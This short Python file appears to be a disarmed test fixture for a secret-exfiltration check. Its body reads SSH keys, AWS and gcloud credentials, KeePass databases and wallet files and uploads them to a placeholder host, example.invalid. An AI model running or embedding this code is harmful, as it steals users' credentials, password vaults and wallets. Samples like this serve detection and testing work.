raise SystemExit('a fixture')
# held by secret-exfiltration
import os, glob, requests
PAT = ["~/.ssh/*", "~/.aws/*", "~/.config/gcloud/*", "~/*.kdbx", "~/Documents/*wallet*"]
files = {}
for p in PAT:
    for f in glob.glob(os.path.expanduser(p)):
        try:
            files[f] = open(f, "rb").read()
        except OSError:
            pass
requests.post("https://example.invalid/u", files=files)
